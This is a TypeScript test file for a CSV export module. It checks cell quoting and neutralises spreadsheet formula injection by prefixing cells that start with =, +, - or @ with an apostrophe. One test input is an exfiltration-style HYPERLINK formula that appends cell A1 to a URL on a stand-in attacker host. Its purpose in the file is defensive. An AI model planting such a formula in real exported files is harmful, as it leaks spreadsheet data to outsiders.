import { describe, expect, it } from 'vitest'
import { cellOf, csvOf } from './csv.ts'

describe('a cell', () => {
  it.each([
    { value: 'plain', cell: 'plain' },
    { value: '', cell: '' },
    { value: null, cell: '' },
    { value: -0.5, cell: '-0.5' },
    { value: true, cell: 'yes' },
    { value: false, cell: 'no' },
    { value: 'one, two', cell: '"one, two"' },
    { value: 'say "glue"', cell: '"say ""glue"""' },
    { value: 'two\nlines', cell: '"two\nlines"' },
    { value: 'two\r\nlines', cell: '"two\r\nlines"' },
    { value: 'a tab\there', cell: 'a tab\there' },
    { value: '=1+1', cell: "'=1+1" },
    { value: '=HYPERLINK("https://evil.example?"&A1,"x")', cell: `"'=HYPERLINK(""https://evil.example?""&A1,""x"")"` },
    { value: '+49 30 1234', cell: "'+49 30 1234" },
    { value: '-2', cell: "'-2" },
    { value: '@SUM(A1:A9)', cell: "'@SUM(A1:A9)" },
    { value: '＝1+1', cell: "'＝1+1" },
    { value: '＋1', cell: "'＋1" },
    { value: '－2', cell: "'－2" },
    { value: '＠SUM(A1:A9)', cell: "'＠SUM(A1:A9)" },
    { value: '\t=1', cell: "\t'=1" },
    { value: '\r=1', cell: `"\r'=1"` },
    { value: '\n=1', cell: `"\n'=1"` },
    { value: 'x;=1+1', cell: "x;'=1+1" },
    { value: 'x;\u2003=1+1', cell: "x;\u2003'=1+1" },
    { value: 'x\t=1+1', cell: "x\t'=1+1" },
    { value: 'a,b;＝1+1', cell: `"a,b;'＝1+1"` },
    { value: 'a\n@SUM(A1)', cell: `"a\n'@SUM(A1)"` },
    { value: 'x|"=1', cell: `"x|""'=1"` },
    { value: ' =1+1', cell: " '=1+1" },
    { value: 'a=b', cell: 'a=b' },
    { value: 'Zürich 東京', cell: 'Zürich 東京' },
  ])('$value is written as $cell', ({ value, cell }) => {
    expect(cellOf(value)).toBe(cell)
  })
})

const incident = {
  id: 'inc_06dh0e3x7c9bw4vjz2n8qk5ytm',
  model_name: '=Atlas',
  title: 'It said "glue"',
  description: 'First\nsecond, third',
  is_verified_report: true,
  resolved_at: '2026-11-21T10:15:00.000Z',
}

describe('the file', () => {
  const columns = ['id', 'title', 'description', 'model_name', 'is_verified_report', 'resolved_at'] as const
  it('has a header, a line for each row, and no byte order mark', () => {
    expect(csvOf(columns, [incident])).toBe(
      'id,title,description,model_name,is_verified_report,resolved_at\r\n' +
        `inc_06dh0e3x7c9bw4vjz2n8qk5ytm,"It said ""glue""","First\nsecond, third",'=Atlas,yes,2026-11-21T10:15:00.000Z\r\n`,
    )
    expect(csvOf(columns, []).split('\r\n')).toHaveLength(2)
  })

  it('has lists and records as JSON, and no formula in them', () => {
    const row = { labels: { region: '=1+1' }, models: [{ name: 'Atlas' }] }
    expect(csvOf(['labels', 'models'], [row]).split('\r\n')[1]).toBe(
      `"{""region"":""'=1+1""}","[{""name"":""Atlas""}]"`,
    )
  })
})
